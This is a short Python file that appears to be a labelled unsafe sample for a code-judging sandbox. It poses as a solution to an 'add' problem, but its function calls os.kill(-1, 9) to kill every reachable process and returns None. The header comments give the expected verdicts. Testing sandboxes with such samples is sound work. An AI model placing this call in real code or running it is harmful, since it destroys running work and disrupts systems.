# problem: add
# verdict: wrong_answer | runtime_error | crashed | blocked
# why: kill(-1, SIGKILL): every process that can be reached.
# unsafe: true
import os


def add(a, b):
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    return None
